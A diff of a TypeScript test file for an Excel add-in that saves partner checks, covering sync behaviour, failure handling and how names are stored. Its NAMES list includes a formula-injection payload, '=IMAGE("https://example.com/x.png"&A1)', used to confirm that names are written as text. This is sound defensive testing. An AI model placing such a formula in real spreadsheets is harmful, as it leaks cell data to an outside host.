@@ -117,9 +117,12 @@ describe('saving a check in Excel', () => {
     answers: ANSWERS,
   });
 
-  it('writes only the score and date and one Checks table row, in one sync after the reads', async () => {
+  it('writes only the score and date and one Checks table row: one sync to read, one to write', async () => {
     const tracker = await trackerWorkbook();
     const row = rowOf(tracker.partners, 'Clara Muster');
+    // As the task pane does: the partner is loaded before it is saved.
+    select(tracker, tracker.partners, row);
+    await tracker.port.loadChecklistContext();
     const partnersBefore = contents(tracker.partners);
     const checksBefore = contents(tracker.checks);
     const checksTable = tracker.fake.workbook.tables.find((table) => table.sheet === tracker.checks)!;
@@ -144,14 +147,47 @@ describe('saving a check in Excel', () => {
     expect(checksTable.area.rows).toBe(tableRows + 1);
     expect(checksBefore[0].slice(0, CHECK_COLUMNS.length)).toEqual(CHECK_COLUMNS.map((declared) => declared.header.en));
 
-    // Three syncs read; the fourth carries every write.
-    expect(tracker.fake.syncsPerRun).toEqual([4]);
+    // One sync reads the remembered sheets; the second carries every write.
+    expect(tracker.fake.syncsPerRun).toEqual([2]);
     const calls = tracker.fake.log.calls;
-    const lastSync = calls.lastIndexOf('RequestContext.sync');
     const writes = calls.filter((name) => /=$|\.add$/.test(name));
-    // The history row first, so a failure part-way never leaves a score without its check.
-    expect(writes).toEqual(['TableRowCollection.add', 'Range.values=']);
-    expect(calls.indexOf('Range.values=')).toBeGreaterThan(calls.lastIndexOf('RequestContext.sync', lastSync - 1));
+    // The history row first (its name cell formatted as text, then written), so a failure part-way never leaves a score without its check.
+    expect(writes).toEqual(['TableRowCollection.add', 'Range.numberFormat=', 'Range.values=', 'Range.values=']);
+    expect(calls.indexOf('TableRowCollection.add')).toBeGreaterThan(calls.indexOf('RequestContext.sync'));
+  });
+
+  it('reads afresh when the remembered tracker moved, or when nothing was loaded yet', async () => {
+    const tracker = await trackerWorkbook();
+    tracker.fake.syncsPerRun.length = 0;
+    // Saved without a load: the tracker is found by its headers first.
+    expect((await tracker.port.saveCheck(check(tracker))).score).toBe(7);
+    expect(tracker.fake.syncsPerRun).toEqual([4]);
+
+    // Renamed after loading: the remembered sheet is gone, so the save reads afresh and still lands in the right rows.
+    await tracker.port.loadPartner('Clara Muster');
+    tracker.checks.name = 'Verlauf';
+    tracker.fake.syncsPerRun.length = 0;
+    const before = tracker.fake.workbook.tables.find((table) => table.sheet === tracker.checks)!.area.rows;
+    expect((await tracker.port.saveCheck({ ...check(tracker), checkedOn: '2025-03-15' })).location).toEqual(check(tracker).location);
+    expect(tracker.fake.syncsPerRun).toEqual([0, 4]);
+    expect(tracker.checks.content(before, 0)).toBe(serialFromIsoDate('2025-03-15'));
+
+    // And the next save uses the fresh place again: 2 syncs.
+    tracker.fake.syncsPerRun.length = 0;
+    await tracker.port.saveCheck(check(tracker));
+    expect(tracker.fake.syncsPerRun).toEqual([2]);
+  });
+
+  it('reads afresh when the remembered Checks sheet no longer has its headers', async () => {
+    const tracker = await trackerWorkbook();
+    await tracker.port.loadPartner('Clara Muster');
+    const moved = tracker.fake.workbook.addSheet('Checks 2025');
+    CHECK_COLUMNS.forEach((declared, index) => moved.write(0, index, declared.header.en));
+    tracker.checks.write(0, 0, 'Archived');
+    tracker.fake.syncsPerRun.length = 0;
+    await tracker.port.saveCheck(check(tracker));
+    expect(tracker.fake.syncsPerRun).toEqual([1, 4]);
+    expect(moved.content(1, 1)).toBe('Clara Muster');
   });
 
   it('fills the blank row a new, empty Checks table starts with, leaving no gap', async () => {
@@ -195,6 +231,16 @@ describe('saving a check in Excel', () => {
     expect((await tracker.port.saveCheck(loaded)).location).toEqual({ sheet: 'Kontakte', row: loaded.location.row });
   });
 
+  it('writes nothing when Excel stops before the write, and the next save still works', async () => {
+    const tracker = await trackerWorkbook();
+    await tracker.port.loadPartner('Clara Muster');
+    const before = [contents(tracker.partners), contents(tracker.checks)];
+    tracker.fake.failNextSync = { after: 0, message: 'GeneralException: The workbook is busy' };
+    await expect(tracker.port.saveCheck(check(tracker))).rejects.toEqual(new PortError({ kind: 'hostFailure', message: 'GeneralException: The workbook is busy' }));
+    expect([contents(tracker.partners), contents(tracker.checks)]).toEqual(before);
+    expect((await tracker.port.saveCheck(check(tracker))).score).toBe(7);
+  });
+
   it('writes nothing and says so when the partner is gone', async () => {
     const tracker = await trackerWorkbook();
     const loaded = check(tracker);
@@ -211,5 +257,51 @@ describe('saving a check in Excel', () => {
     };
     const port = excelPort(tracker.fake.Excel.run);
     await expect(port.saveCheck(check(tracker))).rejects.toEqual(new PortError({ kind: 'hostFailure', message: 'RichApi.Error: The workbook is busy' }));
+  });
+});
+
+describe('what a save writes in Excel stays what it was', () => {
+  // Names a user can give a partner that Excel would otherwise read as a formula, a number, a boolean or a date.
+  const NAMES = ['=IMAGE("https://example.com/x.png"&A1)', '+49 170 1234567', '-Anna', '@Ben', '007', 'TRUE', '1/2', '1e3', '50%'];
+
+  async function saveAs(name: string, withTable: boolean) {
+    const tracker = await trackerWorkbook();
+    if (!withTable) tracker.fake.workbook.tables.splice(tracker.fake.workbook.tables.findIndex((table) => table.sheet === tracker.checks), 1);
+    const row = rowOf(tracker.partners, 'Anna Beispiel');
+    // The name as the user entered it (as text) in the Partners sheet.
+    tracker.partners.cell(row, 0).value = name;
+    await tracker.port.loadPartner(name);
+    const saved = await tracker.port.saveCheck({ partner: name, location: { sheet: 'Partners', row: row + 1 }, checkedOn: '2025-03-14', answers: ANSWERS });
+    return { tracker, row, saved };
+  }
+
+  function lastCheckRow(sheet: ExcelSheetModel): number {
+    let row = 0;
+    while (sheet.content(row + 1, 1) !== '') row++;
+    return row;
+  }
+
+  it.each(NAMES)('stores the partner %s as that text in the Checks table, and shows the check next time', async (name) => {
+    const { tracker, saved } = await saveAs(name, true);
+    expect(saved.partner).toBe(name);
+    const cell = tracker.checks.cell(lastCheckRow(tracker.checks), 1);
+    expect(cell).toMatchObject({ value: name, formula: '', numberFormat: '@' });
+    expect((await tracker.port.loadPartner(name)).previousCheck).toEqual({ checkedOn: '2025-03-14', answers: ANSWERS, score: 7 });
+  });
+
+  it.each(NAMES)('stores the partner %s as that text in a Checks sheet without a table', async (name) => {
+    const { tracker } = await saveAs(name, false);
+    expect(tracker.checks.cell(lastCheckRow(tracker.checks), 1)).toMatchObject({ value: name, formula: '', numberFormat: '@' });
+    expect((await tracker.port.loadPartner(name)).previousCheck).toMatchObject({ checkedOn: '2025-03-14', score: 7 });
+  });
+
+  it('keeps answers booleans, the score and the dates numbers, in their own formats', async () => {
+    const { tracker, row } = await saveAs('Anna Beispiel', true);
+    const last = lastCheckRow(tracker.checks);
+    expect(tracker.checks.contents(last + 1, CHECK_COLUMNS.length)[last]).toEqual([serialFromIsoDate('2025-03-14'), 'Anna Beispiel', ...ANSWERS, 7]);
+    expect(tracker.checks.cell(last, 0).numberFormat).not.toBe('@');
+    expect(tracker.checks.cell(last, 2).numberFormat).not.toBe('@');
+    expect(tracker.partners.content(row, column('checklistScore'))).toBe(7);
+    expect(tracker.partners.content(row, column('checkedOn'))).toBe(serialFromIsoDate('2025-03-14'));
   });
 });
